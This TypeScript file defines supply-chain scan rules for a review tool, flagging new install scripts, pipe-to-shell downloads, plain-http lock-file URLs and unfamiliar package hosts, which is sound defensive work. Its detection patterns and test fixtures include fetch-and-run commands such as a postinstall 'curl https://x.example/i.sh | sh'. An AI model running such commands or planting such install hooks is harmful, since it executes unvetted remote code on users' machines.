import type { FileView } from '../file-view.ts';
import type { Hit, TextRule } from '../scan-rule.ts';
import { packageScripts, scriptHit } from './gate-settings.ts';
import { changed, linesMatching, when } from './line-rules.ts';

const INSTALL_SCRIPTS = [
  'preinstall',
  'install',
  'postinstall',
  'prepare',
  'prepublish',
  'preprepare',
  'postprepare',
] as const;
const FETCHES =
  /\b(?:curl|wget|Invoke-WebRequest|iwr)\b[^|;&]*\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b|\b(?:ba|z)?sh\s+-c\s+["']?\$\((?:curl|wget)|\bnode\s+-e\b|base64\s+(?:-d|--decode)|\beval\b/u;
const USUAL =
  /^(?:husky(?:\s+install)?|node-gyp rebuild|patch-package|is-ci \|\| husky(?: install)?|npm run build|tsc(?: -p \S+)?|lefthook install|prebuild-install.*)$/u;
const LOCK =
  /(?:^|\/)(?:package-lock\.json|npm-shrinkwrap\.json|yarn\.lock|pnpm-lock\.yaml|Gemfile\.lock|poetry\.lock|Pipfile\.lock|uv\.lock)$/u;
const PLAIN_HTTP =
  /(?:"?resolved"?:?\s+"?|tarball:\s*|remote:\s*|url\s*=\s*")http:\/\/(?!(?:localhost|127\.0\.0\.1)[:/])/u;
const HOST = /(?:"?resolved"?:?\s+"?|tarball:\s*|remote:\s*)((?:git\+)?(?:https?|ssh|git):\/\/[^/\s"]+)/u;

function installScripts(view: FileView): Hit[] {
  const before = packageScripts(view.before?.text);
  const now = packageScripts(view.after?.text);
  return INSTALL_SCRIPTS.filter(
    (name) => now[name] !== undefined && now[name] !== before[name] && !USUAL.test(now[name]),
  ).map((name) => scriptHit(view, name, FETCHES.test(now[name] ?? '') ? {} : { level: 'note' }));
}

function hosts(text: string | undefined): Set<string> {
  return new Set((text ?? '').split('\n').flatMap((line) => HOST.exec(line)?.[1] ?? []));
}

function newHosts(view: FileView): Hit[] {
  if (view.before === null) return [];
  const known = hosts(view.before.text);
  return [...hosts(view.after?.text)]
    .filter((host) => !known.has(host))
    .map((host) => {
      const start = view.after?.text.indexOf(host) ?? 0;
      return { side: 'new', start, end: start + host.length };
    });
}

const entry = (address: string): string => `{"packages":{"a":{\n"resolved": "${address}"\n}}}`;
const PLAIN = ['http', '://registry.example/a.tgz'].join('');
const PLAIN_GEM = ['  remote: http', '://gems.example/'].join('');

/** Code that runs because something is installed, and where it comes from. */
export const DEPENDENCY_RULES: readonly TextRule[] = [
  {
    id: 'dependencies/install-script',
    level: 'blocking',
    why: 'Runs on every machine that installs the package. Do without it; never run what was just downloaded.',
    wholeFile: true,
    look: when(/(?:^|\/)package\.json$/u, installScripts),
    flags: [
      changed('package.json', '{}', '{"scripts":{"postinstall":"curl https://x.example/i.sh | sh"}}'),
      changed('package.json', '{}', '{"scripts":{"preinstall":"node setup.js"}}'),
    ],
    ignores: [
      changed('package.json', '{}', '{"scripts":{"prepare":"husky"}}'),
      changed('package.json', '{"scripts":{"postinstall":"node a.js"}}', '{"scripts":{"postinstall":"node a.js"}}'),
    ],
  },
  {
    id: 'dependencies/downloaded-script',
    level: 'note',
    why: 'Runs a script as it comes from the network. Download, compare a checksum, then run.',
    look: when(/\.(?:sh|bash|ya?ml|rake)$|(?:^|\/)(?:Dockerfile|Makefile|Rakefile)/u, (view) =>
      linesMatching(view, /\b(?:curl|wget)\b[^|;&]*\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b/u, (line) =>
        /^\s*#/u.test(line) ? null : undefined,
      ),
    ),
    flags: [changed('setup.sh', null, 'curl -sL https://x.example/i.sh | bash\n')],
    ignores: [changed('setup.sh', null, 'curl -O https://x.example/i.sh\n')],
  },
  {
    id: 'dependencies/plain-http',
    level: 'blocking',
    why: 'The package would come over a connection that anyone can change. Use https.',
    look: when(LOCK, (view) => linesMatching(view, PLAIN_HTTP)),
    flags: [
      changed('package-lock.json', entry('https://registry.example/a.tgz'), entry(PLAIN)),
      changed('Gemfile.lock', null, `GEM\n${PLAIN_GEM}\n`),
    ],
    ignores: [
      changed('package-lock.json', null, entry('https://registry.example/a.tgz')),
      changed('package-lock.json', null, entry(PLAIN.replace('registry.example', 'localhost:4873'))),
    ],
  },
  {
    id: 'dependencies/new-source',
    level: 'note',
    why: 'Packages come from a host that the lock file did not name before. A person should look at it.',
    wholeFile: true,
    look: when(LOCK, newHosts),
    flags: [
      changed('package-lock.json', entry('https://registry.example/a.tgz'), entry('https://other.example/a.tgz')),
      changed('package-lock.json', entry('https://registry.example/a.tgz'), entry('git+ssh://git@host.example/a.git')),
    ],
    ignores: [
      changed('package-lock.json', entry('https://registry.example/a.tgz'), entry('https://registry.example/b.tgz')),
    ],
  },
];
